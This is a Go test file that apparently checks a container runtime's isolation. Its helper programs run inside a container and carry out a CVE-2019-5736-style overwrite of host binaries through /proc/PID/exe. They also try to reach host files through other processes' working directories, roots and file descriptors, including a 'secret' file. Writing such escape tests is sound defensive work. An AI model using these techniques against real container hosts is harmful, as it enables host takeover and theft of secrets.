package oci

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// part names what this program plays when it is started inside a container.
const part = "ESCALE_OCI_PART"

func TestMain(m *testing.M) {
	switch play := os.Getenv(part); {
	case play == "overwrite":
		overwrite()
	case strings.HasPrefix(play, "climb "):
		climb(strings.TrimPrefix(play, "climb "))
	default:
		os.Exit(m.Run())
	}
}

// newest calls with the numbers that processes and threads of the container got last, and
// with the first's, this one's excepted, over and over and as fast as can be: what is looked for may be there for
// some microseconds only.
func newest(each func(pid int)) {
	const few = 12
	fd, err := unix.Open("/proc/sys/kernel/ns_last_pid", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Println("ns_last_pid:", err)
		os.Exit(1)
	}
	self, buf := os.Getpid(), make([]byte, 16)
	for {
		n, _ := unix.Pread(fd, buf, 0)
		last, _ := strconv.Atoi(strings.TrimSpace(string(buf[:max(n, 0)])))
		for pid := last; pid > max(0, last-few); pid-- {
			if pid != self {
				each(pid)
			}
		}
		if self != 1 {
			each(1)
		}
	}
}

// overwrite keeps hold of the program of whatever process appears, and overwrites it as
// soon as it runs no more (CVE-2019-5736). It ends with the container.
func overwrite() {
	mine := map[uint64]bool{}
	for _, path := range []string{"/proc/self/exe", "/bin/busybox"} {
		var st unix.Stat_t
		if unix.Stat(path, &st) == nil {
			mine[st.Ino] = true
		}
	}
	// By file and mount: the same file may be there through a mount that is read-only.
	type place struct{ ino, mount uint64 }
	held, done := map[place]int{}, map[place]bool{}
	fmt.Println("watching")
	newest(func(pid int) {
		fd, err := unix.Open("/proc/"+strconv.Itoa(pid)+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			var st unix.Statx_t
			err := unix.Statx(fd, "", unix.AT_EMPTY_PATH, unix.STATX_INO|unix.STATX_MNT_ID, &st)
			at := place{st.Ino, st.Mnt_id}
			if err != nil || mine[st.Ino] || held[at] != 0 || done[at] || len(held) > 500 {
				_ = unix.Close(fd)
			} else {
				fmt.Println("holding", pid, at)
				held[at] = fd
			}
		}
		for at, fd := range held {
			w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue // still running, or not to be written
			}
			if _, err := unix.Pwrite(w, []byte("overwritten"), 0); err == nil {
				fmt.Println("wrote to", at)
				done[at] = true
				delete(held, at)
			}
			_ = unix.Close(w)
		}
	})
}

// climb looks for a way to a file of the host through what other processes have open,
// their working directories and roots, as long as the container lives.
func climb(file string) {
	fmt.Println("watching")
	up := strings.Repeat("../", 20)
	seen := map[string]bool{}
	newest(func(pid int) {
		dir := "/proc/" + strconv.Itoa(pid)
		for _, kind := range []string{"mnt", "net", "ipc", "uts"} {
			if ns, err := os.Readlink(dir + "/ns/" + kind); err == nil && !seen[ns] {
				seen[ns] = true
				fmt.Println("saw", ns)
			}
		}
		ways := []string{dir + "/cwd", dir + "/root"}
		fds, _ := os.ReadDir(dir + "/fd")
		for _, fd := range fds {
			ways = append(ways, filepath.Join(dir, "fd", fd.Name()))
		}
		for _, way := range ways {
			target, err := os.Readlink(way)
			if err != nil {
				continue
			}
			if !seen[target] {
				seen[target] = true
				fmt.Println("saw", target)
			}
			for _, path := range []string{way + file, way + "/" + up + file, way + "/secret"} {
				if b, err := os.ReadFile(path); err == nil {
					fmt.Printf("read %s through %s (%s): %s\n", path, way, target, b)
				}
			}
		}
	})
}

// soon waits until what a part does is seen.
func soon(t *testing.T, what string, seen func() bool) bool {
	t.Helper()
	const limit = 10 * time.Second
	for end := time.Now().Add(limit); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
		if seen() {
			return true
		}
	}
	t.Errorf("%s: not within %v", what, limit)
	return false
}
